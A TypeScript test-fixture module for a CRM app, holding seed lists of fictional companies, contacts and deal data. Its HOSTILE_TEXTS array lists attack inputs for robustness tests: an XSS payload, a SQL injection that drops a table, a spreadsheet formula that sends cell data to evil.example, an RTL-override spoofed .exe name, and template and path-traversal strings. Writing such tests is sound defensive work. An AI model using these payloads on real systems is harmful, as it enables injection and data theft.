/** Names as they come in real CRMs and from people who mean ill: none may break a page, a file or a query. */
export const HOSTILE_TEXTS = [
  '<img src=x onerror="globalThis.owned=1">',
  "Robert'); DROP TABLE deals;--",
  '"double" and \'single\' & <b>bold</b> \\ back',
  '=HYPERLINK("https://evil.example/?"&A1,"open")',
  '\u202Egnp.exe\u202C right to left',
  'Zero\u200Bwidth\u00A0and\u2028line',
  '株式会社テスト – Größe 🦄 Ω',
  '${deal.amount} {{constructor}} %s %2e%2e/',
  'two\nlines\tand a tab',
  `long ${'lorem ipsum '.repeat(40).trim()}`,
];

/** What people type to get past a required field. */
export const JUNK_TEXTS = ['TBD', 'n/a', 'asdf', '...', 'to follow'];

export const COMPANIES = [
  'Northwind Traders',
  'Contoso Freight',
  'Blue Yonder Tools',
  'Kestrel Optics',
  'Harbour & Pine',
  'Lumen Foods',
  'Ostrava Steel',
  'Meridian Clinics',
  'Tailspin Toys',
  'Quarry Software',
  'Solaris Print',
  'Vega Logistics',
];

export const INDUSTRIES = ['Manufacturing', 'Retail', 'Healthcare', 'Technology', 'Transportation'];
export const FIRST_NAMES = ['Ada', 'Bruno', 'Chiara', 'Dmitri', 'Elif', 'Farah', 'Goran', 'Hana', 'Ines', 'Jonas'];
export const LAST_NAMES = ['Albrecht', 'Bianchi', 'Costa', 'Dvořák', "O'Brien", 'Fischer', 'García', 'Huang', 'Ito'];
export const TITLES = ['CFO', 'Head of IT', 'VP Operations', 'Buyer', 'Plant Manager', 'CISO'];
export const ROLES = ['Economic Buyer', 'Decision Maker', 'Champion', 'Evaluator', 'Influencer'];
export const NEXT_STEPS = ['Send the proposal', 'Demo for the plant team', 'Legal review of the terms', 'Call the CFO'];
export const SUBJECTS = ['Intro call', 'Demo', 'Pricing questions', 'Security review', 'Contract walk-through'];
export const LOSS_REASONS = ['Price', 'No decision', 'Lost to a competitor', 'Missing feature'];
export const COMPETITORS = ['Acme CRM', 'Globex', 'In-house'];
